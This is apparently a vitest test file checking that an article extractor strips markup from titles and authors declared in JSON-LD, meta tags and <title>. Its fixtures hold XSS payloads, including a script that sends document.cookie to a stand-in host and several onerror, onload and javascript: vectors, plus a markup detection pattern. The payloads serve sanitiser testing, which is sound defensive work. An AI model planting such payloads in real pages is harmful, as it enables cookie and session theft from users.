// Titles and authors a hostile page declares (JSON-LD, meta tags, <title>) come out as plain text: no tag, no
// script, entities decoded once, so nothing a page writes there reaches an alert as markup.
import { describe, expect, it } from "vitest";
import { extractArticle } from "./extract.ts";
import { plainText } from "./metadata.ts";

const body =
  "<article><h1>Ministers meet in Baku</h1>" +
  "<p>The delegations discussed trade, culture and education at length and agreed that cooperation should grow " +
  "further over the coming years, with regular meetings of the working groups in both capitals.</p></article>";

function page(head: string): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`;
}

/** A JSON-LD block as a CMS writes it: "</" escaped as "<\/" so that the block is not ended early. */
function jsonLd(article: Record<string, unknown>): string {
  const json = JSON.stringify({ "@type": "NewsArticle", ...article }).replaceAll("</", "<\\/");
  return `<script type="application/ld+json">${json}</script>`;
}

/** Nothing that a browser, Slack or a mail client would read as markup. */
function expectNoMarkup(text: string): void {
  expect(text).not.toMatch(/<[a-z!/?]/i);
  expect(text).not.toMatch(/onerror|alert\(|javascript:/i);
}

describe("titles and authors from page metadata", () => {
  const hostileTitles: [where: string, head: string, title: string][] = [
    [
      "JSON-LD headline with a script",
      jsonLd({ headline: "Ministers meet<script>fetch('//x.example/'+document.cookie)</script> in Baku" }),
      "Ministers meet in Baku",
    ],
    [
      "JSON-LD name with an image handler",
      jsonLd({ name: 'Ministers meet in Baku<img src=x onerror="alert(1)">' }),
      "Ministers meet in Baku",
    ],
    [
      "JSON-LD headline with escaped markup",
      jsonLd({ headline: "&lt;script&gt;alert(1)&lt;/script&gt;Ministers meet in Baku" }),
      "Ministers meet in Baku",
    ],
    [
      "JSON-LD entities, decoded once",
      jsonLd({ headline: "AT&amp;T and Azercell sign a deal" }),
      "AT&T and Azercell sign a deal",
    ],
    [
      "og:title with markup (as the parser decodes the attribute)",
      '<meta property="og:title" content="&lt;b&gt;Ministers&lt;/b&gt; meet in Baku&lt;img src=x onerror=alert(1)&gt;">',
      "Ministers meet in Baku",
    ],
    [
      "og:title that is only a script, then twitter:title",
      '<meta property="og:title" content="&lt;script&gt;alert(1)&lt;/script&gt;">' +
        '<meta name="twitter:title" content="Ministers meet in Baku">',
      "Ministers meet in Baku",
    ],
    [
      "<title> with tags written as text",
      "<title>Ministers of both countries meet in <em>Baku</em> <svg onload=alert(1)></svg>| Daily Example</title>",
      "Ministers of both countries meet in Baku",
    ],
    [
      "<title> with an entity",
      "<title>AT&amp;T and Azercell sign a deal in Baku | Daily Example</title>",
      "AT&T and Azercell sign a deal in Baku",
    ],
  ];

  for (const [where, head, title] of hostileTitles) {
    it(`keeps no markup in the title: ${where}`, () => {
      const article = extractArticle(page(head), "https://news.example.org/a");
      expect(article.title).toBe(title);
      expectNoMarkup(article.title ?? "");
    });
  }

  it("keeps no markup in authors from JSON-LD and meta tags", () => {
    const fromJsonLd = extractArticle(
      page(
        jsonLd({
          headline: "Ministers meet in Baku",
          author: [
            { name: 'Leyla <img src=x onerror="alert(1)">Mammadova' },
            { name: "<script>alert(2)</script>" },
          ],
        }),
      ),
      "https://news.example.org/a",
    );
    expect(fromJsonLd.authors).toEqual(["Leyla Mammadova"]);
    const fromMeta = extractArticle(
      page('<meta name="author" content="&lt;a href=javascript:alert(1)&gt;Elnur Huseynli&lt;/a&gt;">'),
      "https://news.example.org/a",
    );
    expect(fromMeta.authors).toEqual(["Elnur Huseynli"]);
    for (const name of [...fromJsonLd.authors, ...fromMeta.authors]) expectNoMarkup(name);
  });

  it("reads text the way a browser shows it: inline tags join words, breaks part them, lone brackets stay", () => {
    expect(plainText("<em>Baku</em>&#39;s summit", true)).toBe("Baku's summit");
    expect(plainText("Talks<br>end", false)).toBe("Talks end");
    expect(plainText("Home > News > 3 < 5", false)).toBe("Home > News > 3 < 5");
    expect(plainText("Q&A: Tom & Jerry", true)).toBe("Q&A: Tom & Jerry");
    expect(plainText("Cut off <img src=x onerror=alert(1)", false)).toBe("Cut off");
    expect(plainText("Unclosed <script>alert(1)", false)).toBe("Unclosed");
  });
});
